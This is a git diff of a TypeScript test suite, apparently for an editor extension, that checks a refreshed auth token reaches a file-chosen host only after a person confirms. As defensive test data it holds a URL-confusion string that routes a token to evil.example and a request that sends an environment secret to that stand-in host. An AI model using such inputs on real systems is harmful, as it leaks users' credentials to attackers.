@@ -91,6 +91,25 @@ describe("A fresh token", () => {
     assert.ok(await isFresh(document, 5));
   });
 
+  it("goes to a host that a workspace's file chose only once a person has seen that, and then unasked", async () => {
+    const { store } = await activated();
+    await store.update(app, (current) => ({ ...current, hostFromFile: "platform.kore.ai" }));
+    const document = await opened(`GET ${OWN}/api/public/bots\nauth: ${await expired()}\n`);
+    const declined = await click(document, "Refresh and send");
+    assert.deepEqual(
+      declined.modals.map(({ message }) => message),
+      ["Send a fresh token of “Mine” to “platform.kore.ai”?"],
+    );
+    assertDeclinesFirst(declined);
+    assert.deepEqual([sender.called.length, await isFresh(document, 1)], [0, false]);
+    await click(document, "Refresh and send", "Send");
+    assert.deepEqual([sender.called.length, await isFresh(document, 1)], [1, true]);
+    // In another file, too.
+    const other = await opened(`GET ${OWN}/api/public/x\nauth: ${await expired()}\n`);
+    assert.deepEqual((await click(other, "Refresh and send")).asked, []);
+    assert.equal((await store.get(app.id))?.hostFromFile, undefined);
+  });
+
   /** Texts with `TOKEN` in place of a token, the host that a client would call, and the host in the question. */
   const foreign: readonly (readonly [why: string, text: string, called: string | undefined, named: string])[] = [
     ["a brace", "GET https://platform.kore.ai{@evil.example/x\nauth: TOKEN\n", "evil.example", "“evil.example”"],
@@ -412,7 +431,7 @@ describe("A fresh token", () => {
     // The window of these tests is a remote one, where none is put there at all; what decides is tried with the gate.
     const { DestinationGate } = await import("../../../src/editor/requests/destination/destinationGate");
     const { newGateMemory } = await import("../../../src/editor/requests/destination/gateMemory");
-    const gate = new DestinationGate(newGateMemory());
+    const gate = new DestinationGate(newGateMemory((await activated()).store));
     const document = await opened(`GET https://evil.example/x\nauth: {{$processEnv JWT_APPS_MINE}}\n`);
     const behind = await asking(() => gate.passOnce({ document, app, use: "environment" }, false));
     assert.deepEqual([behind.asked, behind.result], [[], false]);
